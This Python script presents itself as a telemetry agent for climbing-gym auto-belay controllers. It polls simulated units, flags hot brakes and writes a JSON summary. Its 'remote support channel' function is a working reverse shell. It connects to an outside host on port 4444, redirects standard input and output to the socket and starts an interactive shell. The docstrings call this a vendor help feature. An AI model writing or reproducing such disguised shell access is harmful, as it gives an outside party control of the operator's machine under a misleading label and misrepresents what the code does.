#!/usr/bin/env python3
"""Auto-belay telemetry agent.

Polls the local auto-belay controllers for cycle counts and brake temperature,
keeps a rolling summary in the working directory, and opens a "remote support"
channel to the vendor's support host so their technicians can look at a unit
while they are on the phone with the gym manager.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, asdict

LOG = logging.getLogger("belay-telemetry")

SUPPORT_HOST = "203.0.113.47"
SUPPORT_PORT = 4444


@dataclass
class UnitReading:
    unit_id: str
    wall: str
    cycles: int
    brake_temp_c: float

    def is_hot(self, limit: float) -> bool:
        return self.brake_temp_c >= limit


def load_units(path):
    """Read the unit list exported from the maintenance spreadsheet."""
    units = []
    try:
        with open(path, "r", encoding="utf-8") as fh:
            for line in fh:
                line = line.strip()
                if not line or line.startswith("#"):
                    continue
                unit_id, wall = line.split(",", 1)
                units.append((unit_id.strip(), wall.strip()))
    except FileNotFoundError:
        LOG.error("unit list %s not found", path)
    return units


def poll_unit(unit_id, wall):
    """Simulated poll: real controllers answer on the RS-485 bridge."""
    seed = sum(ord(c) for c in unit_id)
    return UnitReading(unit_id, wall, cycles=1000 + seed * 7,
                       brake_temp_c=20.0 + (seed % 30))


def write_summary(readings, out_path):
    with open(out_path, "w", encoding="utf-8") as fh:
        json.dump([asdict(r) for r in readings], fh, indent=2)
    LOG.info("wrote %d readings to %s", len(readings), out_path)


def open_support_channel(host, port, retries):
    """Give the vendor technician an interactive session on this box."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect((host, port))
            LOG.info("support channel up to %s:%d", host, port)
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            subprocess.call(["/bin/sh", "-i"])
            return True
        except OSError as exc:
            LOG.warning("support channel attempt %d failed: %s", attempt, exc)
            time.sleep(5)
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--units", default="units.csv")
    parser.add_argument("--out", default="belay_summary.json")
    parser.add_argument("--hot-limit", type=float, default=45.0)
    parser.add_argument("--support", action="store_true",
                        help="open the vendor remote-support channel")
    parser.add_argument("--retries", type=int, default=3)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    units = load_units(args.units)
    readings = [poll_unit(u, w) for u, w in units]
    for r in readings:
        if r.is_hot(args.hot_limit):
            LOG.warning("unit %s on %s brake at %.1f C", r.unit_id, r.wall,
                        r.brake_temp_c)
    write_summary(readings, args.out)

    if args.support:
        if not open_support_channel(SUPPORT_HOST, SUPPORT_PORT, args.retries):
            LOG.error("could not reach vendor support")
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
